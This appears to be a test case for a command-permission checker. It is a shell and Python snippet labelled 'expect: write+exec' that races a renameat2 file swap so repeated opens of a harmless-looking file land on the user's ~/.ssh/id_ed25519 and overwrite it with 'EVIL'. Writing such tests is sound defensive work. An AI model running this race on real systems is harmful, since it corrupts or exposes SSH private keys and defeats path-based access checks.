# expect: write+exec
# why: exec 3<> f while f is swapped for a link to the key: read it and write it
: > f
python3 -c 'import ctypes, os, sys, time
os.symlink(os.path.expanduser("~/.ss") + sys.argv[1], sys.argv[2] + ".ln")
end = time.time() + 2
while time.time() < end:
    ctypes.CDLL(None).renameat2(-100, sys.argv[2].encode(), -100, (sys.argv[2] + ".ln").encode(), 2)' h/id_ed25519 f &
for i in $(seq 300); do exec 3<> f; echo EVIL >&3; exec 3>&-; done
